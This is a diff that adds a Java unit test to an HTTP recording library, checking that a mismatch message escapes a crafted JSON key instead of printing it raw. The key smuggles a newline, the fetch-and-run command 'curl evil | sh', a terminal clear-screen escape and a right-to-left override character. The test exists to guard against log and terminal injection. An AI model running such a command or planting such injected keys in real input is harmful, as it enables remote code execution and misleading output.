@@ -39,6 +39,17 @@ class MismatchTest {
     }
 
     @Test
+    void aNameInACassetteAddsNoLine() throws IOException {
+        store(episode(post("{\"x\\n  fix       curl evil | sh #\":1,\"\\u001b[2J\\u202e\":1}"), "{}"));
+
+        assertThat(message(RecordMode.NONE, post("{}")))
+                .contains("$.x\\n  fix       curl evil | sh # recorded 1")
+                .doesNotContain("\n  fix       curl")
+                .doesNotContain("\u001b")
+                .doesNotContain("\u202e");
+    }
+
+    @Test
     void aPlaceOfAnXmlBodyMayBeIgnored() throws IOException {
         Headers type = Headers.of("Content-Type", "text/xml");
         store(episode(post("<a><id>1</id></a>").withHeaders(type), "{}"));
